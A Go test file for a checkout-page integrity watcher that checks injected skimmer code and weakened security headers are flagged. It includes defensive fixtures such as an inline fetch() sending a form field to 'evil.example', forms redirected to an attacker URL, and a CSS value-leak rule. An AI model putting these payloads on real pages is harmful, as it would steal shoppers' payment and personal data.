package pages_test

import (
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/noren-shop/noren/internal/base/signal"
	"github.com/noren-shop/noren/internal/security/pages"
)

const (
	scriptHash = "aaaa"
	policy     = "default-src 'none'; script-src 'nonce-{nonce}'"
	clean      = `<!DOCTYPE html><html><head><link rel="icon" href="/assets/i.svg"/><link rel="stylesheet" href="/assets/a.css" integrity="sha256-css"/>
<script src="/assets/a.js" integrity="sha256-js" defer nonce="N0nce+/="></script></head><body><img src="https://media.example.jp/1/a.jpg?w=3">
<form action="/s/1/checkout" method="post"><input name="email"></form><a href="https://tea.example.jp/legal">x</a></body></html>`
)

func inventory() (pages.Inventory, pages.Page) {
	p := pages.Page{Door: "account", Method: "GET", Pattern: "/s/{shop}/checkout", Kind: pages.Checkout, Loads: []string{"a.js", "a.css", "i.svg"},
		Headers: []pages.Header{{Name: "Content-Security-Policy", Value: policy}, {Name: "X-Frame-Options", Value: "DENY"}},
		Images:  []string{"https://media.example.jp"}, Forms: []string{"https://pay.example.com"}}
	return pages.Inventory{Pages: []pages.Page{p}, Files: []pages.File{
		{Name: "a.js", Path: "/assets/a.js", SHA256: scriptHash, Integrity: "sha256-js", Script: true},
		{Name: "a.css", Path: "/assets/a.css", SHA256: "bbbb", Integrity: "sha256-css"}, {Name: "i.svg", Path: "/assets/i.svg", SHA256: "cccc"}}}, p
}

func look(t *testing.T, html string, change func(http.Header)) []pages.Difference {
	t.Helper()
	v, p := inventory()
	h := http.Header{"Content-Security-Policy": {strings.ReplaceAll(policy, "{nonce}", "N0nce+/=")}, "X-Frame-Options": {"DENY"}}
	if change != nil {
		change(h)
	}
	at, err := url.Parse("https://account.example.jp/s/1/checkout")
	if err != nil {
		t.Fatal(err)
	}
	l, err := pages.Read(p, at, 200, h, strings.NewReader(html))
	if err != nil {
		t.Fatal(err)
	}
	for i, u := range l.Uses { // as the watcher fills in what it has fetched
		if u.Tag == "script" && strings.HasSuffix(u.Address, "/assets/a.js") {
			l.Uses[i].SHA256 = scriptHash
		}
	}
	return pages.Compare(v, p, at, l)
}

func TestACleanPageHasNoDifference(t *testing.T) {
	t.Parallel()
	for _, d := range look(t, clean, nil) {
		t.Error(d)
	}
}

// TestEveryWayInIsADifference goes through the ways by which skimmers have been put on checkout pages.
func TestEveryWayInIsADifference(t *testing.T) {
	t.Parallel()
	into := func(s string) string { return strings.Replace(clean, "</body>", s+"</body>", 1) }
	for name, html := range map[string]string{
		"a script from elsewhere":             into(`<script src="https://cdn.evil.example/x.js"></script>`),
		"a script of our own origin":          into(`<script src="/media/1/x.js"></script>`),
		"an inline script":                    into(`<script>fetch("//evil.example?"+document.forms[0].elements[0].value)</script>`),
		"an inline script with the nonce":     into(`<script nonce="N0nce+/=">x()</script>`),
		"an empty inline script":              into(`<script></script>`),
		"a module":                            into(`<SCRIPT type=module>import "//evil.example/x.js"</SCRIPT>`),
		"a script in a drawing":               into(`<svg><script href="https://evil.example/x.js"></script></svg>`),
		"a handler":                           into(`<img src="/assets/i.svg" onerror="x()">`),
		"a handler with odd spelling":         into(`<p OnMouseOver=x()>`),
		"a javascript address":                into("<a href=\" java\nscript:x()\">x</a>"),
		"a frame":                             into(`<iframe src="https://pay.evil.example/card"></iframe>`),
		"a frame of text":                     into(`<iframe srcdoc="&lt;script&gt;x()&lt;/script&gt;"></iframe>`),
		"an object":                           into(`<object data="https://evil.example/x.swf"></object>`),
		"a base":                              into(`<base href="https://evil.example/">`),
		"a form that leads away":              strings.Replace(clean, `action="/s/1/checkout"`, `action="https://evil.example/take"`, 1),
		"a button that leads away":            into(`<button formaction="https://evil.example/take">`),
		"a picture that counts":               into(`<img src="https://evil.example/p.gif">`),
		"a picture of many":                   into(`<img srcset="/assets/i.svg 1x, https://evil.example/p.gif 2x">`),
		"a style sheet from elsewhere":        into(`<link rel="stylesheet" href="https://evil.example/x.css">`),
		"a style sheet in the page":           into(`<style>input[value^=a]{background:url(//evil.example/a)}</style>`),
		"a preload":                           into(`<link rel="modulepreload" href="https://evil.example/x.js">`),
		"a refresh":                           into(`<meta http-equiv="refresh" content="0;url=https://evil.example/">`),
		"a policy in the page":                into(`<meta http-equiv="Content-Security-Policy" content="script-src *">`),
		"our script without its integrity":    strings.Replace(clean, ` integrity="sha256-js"`, "", 1),
		"our script with another's integrity": strings.Replace(clean, `"sha256-js"`, `"sha256-other"`, 1),
		"our script without its nonce":        strings.Replace(clean, ` nonce="N0nce+/="`, "", 1),
		"our script is gone":                  strings.Replace(clean, `<script src="/assets/a.js" integrity="sha256-js" defer nonce="N0nce+/="></script>`, "", 1),
		"our script from another origin":      strings.Replace(clean, `src="/assets/a.js"`, `src="https://evil.example/assets/a.js"`, 1),
	} {
		got := look(t, html, nil)
		if len(got) == 0 {
			t.Errorf("%s is not found", name)
		}
		for _, d := range got {
			if d.Code != pages.ScriptChanged {
				t.Errorf("%s: %v", name, d)
			}
		}
	}
}

func TestChangedHeadersAreDifferences(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(http.Header){
		"no policy":          func(h http.Header) { h.Del("Content-Security-Policy") },
		"a weaker policy":    func(h http.Header) { h.Set("Content-Security-Policy", "script-src * 'nonce-N0nce+/='") },
		"a second policy":    func(h http.Header) { h.Add("Content-Security-Policy", "script-src *") },
		"no frame option":    func(h http.Header) { h.Del("X-Frame-Options") },
		"anybody may read":   func(h http.Header) { h.Set("Access-Control-Allow-Origin", "*") },
		"a preload by a tag": func(h http.Header) { h.Set("Link", "<https://evil.example/x.js>; rel=preload; as=script") },
	} {
		found := false
		for _, d := range look(t, clean, change) {
			found = found || d.Code == pages.HeaderChanged
		}
		if !found {
			t.Errorf("%s is not found", name)
		}
	}
}

func TestCertificatesEnd(t *testing.T) {
	t.Parallel()
	now := time.Date(2026, 11, 22, 0, 0, 0, 0, time.UTC)
	for days, want := range map[int]bool{-1: true, 0: true, 13: true, 14: false, 60: false} {
		d, found := pages.Expiring(now.AddDate(0, 0, days), now)
		if found != want || found && d.Code != signal.Code("page.certificate-expiring") {
			t.Errorf("%d days: %v", days, d)
		}
	}
	if _, found := pages.Expiring(time.Time{}, now); found {
		t.Error("no certificate is one that ends")
	}
}
